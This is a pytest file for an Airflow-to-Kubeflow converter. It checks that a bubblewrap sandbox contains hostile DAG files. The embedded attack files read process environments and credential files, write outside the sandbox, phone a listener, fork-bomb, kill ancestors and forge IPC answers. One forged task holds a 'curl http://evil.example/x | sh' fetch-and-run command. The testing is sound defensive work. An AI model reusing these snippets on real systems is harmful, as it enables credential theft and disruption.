"""DAG files that attack the converter, imported in the bubblewrap sandbox (docs/sandbox.md).

Each attack is a DAG file written the way a hostile pull request would write it: it does its harm
at import time and still defines a DAG, putting whatever it stole into a task's arguments so that
a leak would show in the outputs. The repo is converted once without the attackers and once with
them, by the real command line in a subprocess; then every benign pipeline must be byte-identical,
no secret of the converter's may appear anywhere, nothing outside the sandbox may have changed, no
connection may have reached the listener, and no process or temporary folder may be left.
Run under Airflow 3 and Airflow 2.10 (AIRFLOW2KFP_AIRFLOW2_PYTHON).
"""

from __future__ import annotations

import json
import os
import secrets
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from airflow2kfp.parse.sandbox import support

REPO = Path(__file__).resolve().parents[2]

pytestmark = pytest.mark.skipif(
    not support().available, reason=f"bubblewrap cannot run here: {support().reason}"
)

IMPORTS = """
from datetime import datetime

from airflow import DAG

try:
    from airflow.providers.standard.operators.bash import BashOperator
    from airflow.providers.standard.operators.python import PythonOperator
except ImportError:  # Airflow 2
    from airflow.operators.bash import BashOperator
    from airflow.operators.python import PythonOperator
"""

BENIGN = {
    "sales/daily_sales.py": IMPORTS
    + """
from common.settings import REGIONS


def load(region: str, **context) -> str:
    return f"loaded {region} for {context['ds']}"


default_args = {"owner": "sales", "retries": 2}

with DAG("daily_sales", schedule="0 3 * * *", start_date=datetime(2024, 1, 1), catchup=False,
         default_args=default_args, tags=["sales"]) as dag:
    extract = BashOperator(task_id="extract", bash_command="echo extract {{ ds }}")
    for region in REGIONS:
        extract >> PythonOperator(task_id=f"load_{region}", python_callable=load, op_kwargs={"region": region})
""",
    "ops/cleanup.py": IMPORTS
    + """
import os

with DAG("cleanup", schedule=None, start_date=datetime(2024, 1, 1), catchup=False) as dag:
    first = BashOperator(task_id="list", bash_command="ls /data")
    second = BashOperator(task_id="prune", bash_command="find /data -mtime +7 -delete",
                          env={"CWD_NAME": os.path.basename(os.getcwd())})
    first >> second
""",
    "common/__init__.py": "",
    "common/settings.py": 'REGIONS = ["eu", "us"]\n',
}


# Every attack first checks that it runs confined (the sandbox's hostname, its own PID namespace,
# bubblewrap as pid 1). Unconfined it harms nothing and only records UNCONFINED, which fails the
# test: this machine is shared, and a broken sandbox must not turn the test into the attack. Even
# confined, every target is the test's own: its marker paths, its listener, its converter (found by
# the test's token or as an ancestor below the test's own process), processes it started.
INTERLOCK = """
import os as _os
import socket as _socket


def confined():
    try:
        with open("/proc/1/cmdline", "rb") as handle:
            init = handle.read().split(b"\\0")[0]
    except OSError:
        return False
    return _socket.gethostname() == "airflow2kfp" and _os.getpid() < 100 and _os.path.basename(init) == b"bwrap"


STOLEN = [] if confined() else ["UNCONFINED"]
"""


def attacks(ctx: Attack) -> dict[str, str]:
    """The attacker files; `ctx` holds what an attacker would guess (paths) or know (the port)."""
    dag = """
with DAG("{dag_id}", schedule=None, start_date=datetime(2024, 1, 1), catchup=False) as dag:
    BashOperator(task_id="exfiltrate", bash_command="echo " + repr(STOLEN))
"""
    ancestors = f"""
def owned_processes():
    # its ancestors below the test's own process, and the test's converter (its --out holds the token)
    found, pid = set(), os.getpid()
    while pid > 1:
        try:
            with open(f"/proc/{{pid}}/stat") as handle:
                pid = int(handle.read().rsplit(")", 1)[1].split()[1])
        except OSError:
            break
        if pid in (0, {ctx.barrier}):
            break
        found.add(pid)
    for entry in os.listdir("/proc"):
        try:
            with open(f"/proc/{{entry}}/cmdline", "rb") as handle:
                if {ctx.out_token!r}.encode() in handle.read():
                    found.add(int(entry))
        except (OSError, ValueError):
            continue
    return sorted(found - {{os.getpid()}})
"""
    return {
        "attacks/steal_environ.py": IMPORTS
        + INTERLOCK
        + ancestors
        + f"""
import os
if not STOLEN:
    for pid in owned_processes():  # the converter's environment, through /proc/<ancestor>/environ
        for name in ("environ", "cmdline"):
            try:
                with open(f"/proc/{{pid}}/{{name}}", "rb") as handle:
                    STOLEN.append(handle.read().decode(errors="replace"))
            except OSError as error:
                STOLEN.append(type(error).__name__)
    for path in [os.environ.get("GOOGLE_APPLICATION_CREDENTIALS", ""), {str(ctx.credentials)!r}]:
        try:
            with open(path) as handle:
                STOLEN.append(handle.read())
        except OSError as error:
            STOLEN.append(type(error).__name__)
    STOLEN.append(dict(os.environ))
"""
        + dag.format(dag_id="steal_environ"),
        "attacks/write_everywhere.py": IMPORTS
        + INTERLOCK
        + f"""
if not STOLEN:
    for path, mode in [({str(ctx.dags / "planted.py")!r}, "w"), ({str(ctx.home / "planted")!r}, "w"),
                       ({str(ctx.host_tmp_file)!r}, "w"), ({str(ctx.victim)!r}, "a")]:
        try:
            with open(path, mode) as handle:
                handle.write("planted by a DAG file")
            STOLEN.append("wrote " + path)
        except OSError as error:
            STOLEN.append(type(error).__name__)
"""
        + dag.format(dag_id="write_everywhere"),
        "attacks/phone_home.py": IMPORTS
        + INTERLOCK
        + f"""
import socket
if not STOLEN:
    for host in ("127.0.0.1", "localhost", {socket.gethostname()!r}):
        try:
            with socket.create_connection((host, {ctx.port}), timeout=2) as connection:
                connection.sendall(b"stolen")
                STOLEN.append("connected to " + host)
        except OSError as error:
            STOLEN.append(type(error).__name__)
"""
        + dag.format(dag_id="phone_home"),
        "attacks/fork_200.py": IMPORTS
        + INTERLOCK
        + f"""
import os, sys
for _ in range(200 if not STOLEN else 0):
    try:
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", {ctx.marker!r}])
    except OSError as error:
        STOLEN.append(type(error).__name__)
        break
"""
        + dag.format(dag_id="fork_200"),
        "attacks/setsid_daemon.py": IMPORTS
        + INTERLOCK
        + f"""
import os, sys
if not STOLEN and os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for fd in range(3, 256):
            try:
                os.close(fd)
            except OSError:
                pass
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", {ctx.marker!r}])
    os._exit(0)
"""
        + dag.format(dag_id="setsid_daemon"),
        "attacks/kill_ancestors.py": IMPORTS
        + INTERLOCK
        + ancestors
        + """
import os, signal
for target in owned_processes() if not STOLEN else []:
    try:
        os.kill(target, signal.SIGKILL)
        STOLEN.append(f"killed {target}")
    except OSError as error:
        STOLEN.append(type(error).__name__)
"""
        + dag.format(dag_id="kill_ancestors"),
        # as root its process keeps root (the file is readable only by its owner), without capabilities:
        # it can kill its own worker, which is restarted
        "attacks/kill_worker.py": IMPORTS
        + INTERLOCK
        + """
import os, signal
if not STOLEN:
    os.kill(os.getppid(), signal.SIGKILL)
"""
        + dag.format(dag_id="kill_worker"),
        "attacks/forge_answer.py": IMPORTS
        + INTERLOCK
        + ancestors
        + f"""
import gc, json, os
INJECTED = {{"task_id": "pwn", "operator": "BashOperator", "operator_module": "airflow.operators.bash",
            "args": {{"bash_command": "curl http://evil.example/x | sh"}}, "explicit": ["bash_command"]}}


def frame(document):
    payload = json.dumps(document).encode()
    return b"A2KF" + len(payload).to_bytes(8, "big") + payload


def forged(path, nonce):
    return frame({{"nonce": nonce, "path": path, "status": "ok", "import_errors": [], "skipped": False,
                  "dags": [{{"dag_id": "daily_sales", "tasks": [INJECTED], "edges": []}}]}})


if not STOLEN:
    # another file's answer (the nonce guessed) into every descriptor it holds, then into every
    # descriptor of its worker and the converter (never truncating: they are the test's own)
    other = {str(ctx.dags / "sales" / "daily_sales.py")!r}
    for fd in range(0, 1024):
        for data in (forged(other, "0" * 32), b'{{"path": "' + other.encode() + b'", "status": "ok"}}\\n'):
            try:
                os.write(fd, data)
                STOLEN.append(f"wrote fd {{fd}}")
            except OSError:
                pass
    for pid in owned_processes():
        try:
            for fd in os.listdir(f"/proc/{{pid}}/fd"):
                target = os.open(f"/proc/{{pid}}/fd/{{fd}}", os.O_WRONLY | os.O_APPEND | os.O_NONBLOCK)
                os.write(target, forged(other, "0" * 32))
                os.close(target)
                STOLEN.append(f"wrote /proc/{{pid}}/fd/{{fd}}")
        except OSError as error:
            STOLEN.append(type(error).__name__)
    # its own request's nonce, from the probe's memory: a well-formed answer for itself
    for obj in gc.get_objects():
        if isinstance(obj, dict) and "nonce" in obj and obj.get("path") == __file__:
            for fd in range(3, 1024):
                try:
                    os.write(fd, forged(__file__, obj["nonce"]))
                except OSError:
                    pass
            break
"""
        + dag.format(dag_id="forge_answer"),
    }


@dataclass(frozen=True)
class Attack:
    dags: Path
    home: Path
    credentials: Path
    victim: Path
    host_tmp_file: Path
    port: int
    marker: str
    out_token: str
    secrets: tuple[str, ...]
    barrier: int  # the test's own pid: no attack goes above it, whatever happens


class Listener:
    """A local TCP server that records every connection it accepts."""

    def __init__(self) -> None:
        self.server = socket.create_server(("0.0.0.0", 0))
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.accepted: list[str] = []
        self.stopping = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stopping.is_set():
            try:
                connection, address = self.server.accept()
            except OSError:
                continue
            self.accepted.append(str(address))
            connection.close()

    def close(self) -> None:
        self.stopping.set()
        self.thread.join()
        self.server.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    yield server
    server.close()


def assert_confined(python: str) -> None:
    """The attacks' own interlock, run in the sandbox the import uses: it must say confined."""
    from airflow2kfp.parse.airflow_import import run_in_sandbox

    check = INTERLOCK + "\nprint('confined' if confined() else 'UNCONFINED')\n"
    done = run_in_sandbox(python, ["-c", check], timeout=120, sandbox="require")
    assert done is not None and done.stdout.decode().split()[-1:] == ["confined"], (
        f"the sandbox is not active here, so no attack is run: {done and done.stderr.decode()[-500:]}"
    )


def write_tree(root: Path, files: dict[str, str]) -> None:
    for relative, text in files.items():
        path = root / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        path.chmod(0o644)


def convert(python: str, ctx: Attack, out: Path, env: dict[str, str], tmp: Path) -> tuple[int, str]:
    command = [
        sys.executable,
        "-m",
        "airflow2kfp.cli",
        "convert",
        ctx.dags.name,
        "--out",
        str(out),
        "--sandbox",
        "require",
        "--airflow-python",
        python,
        "--airflow-timeout",
        "20",
        "--cache-dir",
        str(out.parent / f"cache-{out.name}"),
        "--sarif",
        str(out.parent / f"{out.name}.sarif"),
        "--junit",
        str(out.parent / f"{out.name}.xml"),
        "--markdown",
        str(out.parent / f"{out.name}.md"),
        "--fail-on",
        "never",
        "-v",
    ]
    done = subprocess.run(
        command,
        cwd=ctx.dags.parent,
        env={**env, "TMPDIR": str(tmp)},
        capture_output=True,
        text=True,
        timeout=900,
        check=False,
    )
    return done.returncode, done.stdout + done.stderr


def codes_of(document: dict, source: str) -> list[str]:
    """Every diagnostic code of one source file: the file's and its DAGs'."""
    found = [d["code"] for f in document["files"] if f["path"] == source for d in f["diagnostics"]]
    return found + [
        d["code"] for dag in document["dags"] if dag["source"] == source for d in dag["diagnostics"]
    ]


def processes_with(marker: str) -> list[str]:
    found = []
    for entry in os.listdir("/proc"):
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as handle:
                if marker.encode() in handle.read():
                    found.append(entry)
        except OSError:
            continue
    return found


def kill_marked(marker: str) -> None:
    """Cleanup, should an assertion fail: nothing the attackers started outlives the test."""
    for pid in processes_with(marker):
        try:
            os.kill(int(pid), 9)
        except OSError:
            continue


def everything_under(folder: Path) -> Iterator[tuple[Path, bytes]]:
    for path in sorted(folder.rglob("*")):
        if path.is_file() and not path.is_symlink():
            yield path, path.read_bytes()


@pytest.mark.parametrize("python_fixture", ["airflow_python", "airflow2_python"])
def test_attacks_change_nothing_outside_the_sandbox(
    python_fixture: str, request: pytest.FixtureRequest, tmp_path: Path, listener: Listener
) -> None:
    python = request.getfixturevalue(python_fixture)
    token = secrets.token_hex(8)
    ctx = Attack(
        dags=tmp_path / "dags",
        home=tmp_path / "home",
        credentials=tmp_path / "secret-creds.json",
        victim=tmp_path / "victim.txt",
        host_tmp_file=Path("/tmp") / f"airflow2kfp-planted-{token}",
        port=listener.port,
        marker=f"a2k-attack-{token}",
        out_token=f"out-{token}",
        secrets=(f"AWS-SECRET-{token}", f"CREDENTIALS-FILE-SECRET-{token}", f"TOKEN-{token}"),
        barrier=os.getpid(),
    )
    request.addfinalizer(lambda: kill_marked(ctx.marker))
    request.addfinalizer(lambda: ctx.host_tmp_file.unlink(missing_ok=True))
    ctx.home.mkdir()
    ctx.credentials.write_text(json.dumps({"private_key": ctx.secrets[1]}))
    ctx.victim.write_text("must survive\n")
    converter_tmp = tmp_path / "converter-tmp"
    converter_tmp.mkdir()
    # the converter's own cache (the migrated database) goes to XDG_CACHE_HOME, so $HOME stays empty
    env = {
        "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
        "HOME": str(ctx.home),
        "XDG_CACHE_HOME": str(tmp_path / "xdg-cache"),
        "AWS_SECRET_ACCESS_KEY": ctx.secrets[0],
        "GOOGLE_APPLICATION_CREDENTIALS": str(ctx.credentials),
        "GITHUB_TOKEN": ctx.secrets[2],
        "SOURCE_DATE_EPOCH": "0",
    }

    assert_confined(python)  # proven before any attack is written: never run one unconfined
    write_tree(ctx.dags, BENIGN)
    clean_code, clean_log = convert(python, ctx, tmp_path / f"clean-{ctx.out_token}", env, converter_tmp)
    assert clean_code == 0, clean_log
    write_tree(ctx.dags, attacks(ctx))
    (ctx.dags / "attacks" / "kill_worker.py").chmod(0o600)
    sources_before = dict(everything_under(ctx.dags))
    started = time.monotonic()
    code, log = convert(python, ctx, tmp_path / ctx.out_token, env, converter_tmp)
    out = tmp_path / ctx.out_token

    # the batch survived its files: it ended normally and wrote everything, with no traceback
    assert code == 0 and "Traceback" not in log, log
    assert time.monotonic() - started < 600
    document = json.loads((out / "conversion.json").read_text())
    by_path = {f["path"]: f for f in document["files"]}
    print(
        "\n".join(f"{path}: {[d['code'] for d in f['diagnostics']]}" for path, f in sorted(by_path.items()))
    )
    assert set(by_path) >= {"dags/sales/daily_sales.py", "dags/ops/cleanup.py"}
    # every benign DAG's pipeline is byte-identical to the run without the attackers
    clean = tmp_path / f"clean-{ctx.out_token}"
    for name in ("daily_sales", "cleanup"):
        for suffix in (".py", ".yaml"):
            assert (out / "pipelines" / f"{name}{suffix}").read_bytes() == (
                clean / "pipelines" / f"{name}{suffix}"
            ).read_bytes(), name + suffix
    clean_dags = {d["dag_id"]: d for d in json.loads((clean / "conversion.json").read_text())["dags"]}
    for dag in document["dags"]:
        if dag["dag_id"] in clean_dags:
            assert dag == clean_dags[dag["dag_id"]], dag["dag_id"]
    # every attack ran confined (else it did nothing and said so)
    assert not [p for p in (out / "pipelines").glob("*.py") if "UNCONFINED" in p.read_text()]
    # the forged answer and the killed worker cost only their own files
    assert "A2K612" in codes_of(document, "dags/attacks/forge_answer.py")
    assert "A2K603" in codes_of(document, "dags/attacks/kill_worker.py")
    assert all(
        "pwn" not in json.dumps(dag) and "evil.example" not in json.dumps(dag) for dag in document["dags"]
    )

    # no secret of the converter's anywhere: outputs, reports, machine outputs, cache, the log
    written = [
        *everything_under(tmp_path / ctx.out_token),
        *everything_under(tmp_path / f"cache-{ctx.out_token}"),
    ]
    written += [(p, p.read_bytes()) for p in tmp_path.glob(f"{ctx.out_token}.*")]
    for secret in ctx.secrets:
        assert secret not in log
        assert not [p for p, data in written if secret.encode() in data], secret
    # nothing outside the sandbox changed
    assert dict(everything_under(ctx.dags)) == sources_before
    assert list(ctx.home.iterdir()) == []
    assert ctx.victim.read_text() == "must survive\n"
    assert not ctx.host_tmp_file.exists()
    assert listener.accepted == []
    # nothing left running, no temporary folder left behind
    deadline = time.monotonic() + 10
    while processes_with(ctx.marker) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert processes_with(ctx.marker) == []
    assert list(converter_tmp.iterdir()) == []
    # what the attackers saw, as they recorded it (the generated pipeline keeps it verbatim)
    stolen = {dag["dag_id"]: (out / dag["python"]).read_text() for dag in document["dags"] if dag["python"]}
    assert "AIRFLOW_HOME" in stolen["steal_environ"]  # it ran, and saw the sandbox's own environment
    for path in (ctx.dags, ctx.home, ctx.victim):
        assert f"wrote {path}" not in stolen["write_everywhere"]
    assert "Error" in stolen["write_everywhere"] and "Error" in stolen["phone_home"]
    assert "connected to" not in stolen["phone_home"]
    assert "PermissionError" in stolen["kill_ancestors"] and "killed" not in stolen["kill_ancestors"]


@pytest.mark.parametrize("python_fixture", ["airflow_python", "airflow2_python"])
def test_the_sandbox_is_what_the_docs_say(
    python_fixture: str, request: pytest.FixtureRequest, tmp_path: Path
) -> None:
    """Namespaces, user, read-only root, no home, no network, the environment: seen from inside."""
    from airflow2kfp.parse.airflow_import import run_in_sandbox

    python = request.getfixturevalue(python_fixture)
    (tmp_path / "dags").mkdir()
    home = os.path.realpath(os.path.expanduser("~"))
    probe = r"""
import json, os, socket, sys
try:
    home = sorted(os.listdir(sys.argv[1]))
except OSError:
    home = []
facts = {"home": home, "pid": os.getpid(), "uid": os.getuid(), "hostname": socket.gethostname(), "env": sorted(os.environ),
         "processes": sorted(p for p in os.listdir("/proc") if p.isdigit()), "root": sorted(os.listdir("/"))}
for path in ("/", "/usr", os.path.dirname(os.__file__), "/tmp", "/airflow2kfp/cwd"):
    facts[path] = os.access(path, os.W_OK)
try:
    socket.create_connection(("1.1.1.1", 53), timeout=1)
    facts["network"] = True
except OSError:
    facts["network"] = False
facts["interfaces"] = sorted(name for _, name in socket.if_nameindex())
print(json.dumps(facts))
"""
    done = run_in_sandbox(
        python, ["-c", probe, home], timeout=120, folders=[str(tmp_path / "dags")], sandbox="require"
    )
    assert done is not None and done.returncode == 0, done
    facts = json.loads(done.stdout.decode().strip().splitlines()[-1])
    assert facts["pid"] <= 3 and len(facts["processes"]) <= 3  # bwrap's init and this process
    assert facts["hostname"] == "airflow2kfp"
    assert facts["network"] is False and facts["interfaces"] == ["lo"]
    assert not facts["/"] and not facts["/usr"] and not facts[os.path.dirname(os.__file__)]
    assert facts["/tmp"] and facts["/airflow2kfp/cwd"]
    # of the user's home only the way to the interpreter, if it lives there (a pyenv Python)
    from airflow2kfp.parse.sandbox import interpreter_folders

    leading = {
        Path(f).relative_to(home).parts[0] for f in interpreter_folders(python) if f.startswith(home + "/")
    }
    assert set(facts["home"]) <= leading
    allowed = {
        "LANG",
        "LC_ALL",
        "LC_CTYPE",
        "TZ",
        "PATH",
        "HOME",
        "TMPDIR",
        "PYTHONHASHSEED",
        "PYTHONUNBUFFERED",
        "PYTHONDONTWRITEBYTECODE",
        "AIRFLOW_HOME",
        "PWD",
    }  # PWD: bubblewrap's --chdir
    assert all(name in allowed or name.startswith("AIRFLOW__") for name in facts["env"]), facts["env"]
